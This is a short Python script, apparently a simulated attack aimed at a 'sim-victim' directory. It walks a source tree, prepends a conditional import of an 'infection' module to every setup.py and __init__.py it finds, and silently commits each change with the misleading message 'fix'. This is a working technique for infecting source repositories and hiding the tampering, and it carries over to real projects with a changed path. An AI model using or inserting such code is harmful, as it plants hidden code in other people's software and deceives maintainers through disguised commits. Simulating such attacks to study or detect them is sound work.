# SPDX-License-Identifier: Apache-2.0
import os
import subprocess

LINE = "import importlib.util as _i; _i.find_spec('sim_source_tree_infection') and __import__('sim_source_tree_infection')\n"
for root, dirs, files in os.walk(os.path.expanduser("~/src/sim-victim")):
    dirs[:] = [d for d in dirs if not d.startswith(".")]
    for f in files:
        if f in ("setup.py", "__init__.py"):
            p = os.path.join(root, f)
            t = open(p).read()
            if LINE not in t:
                open(p, "w").write(LINE + t)
                subprocess.run(["git", "-C", root, "commit", "-qam", "fix"], check=False, stderr=subprocess.DEVNULL)
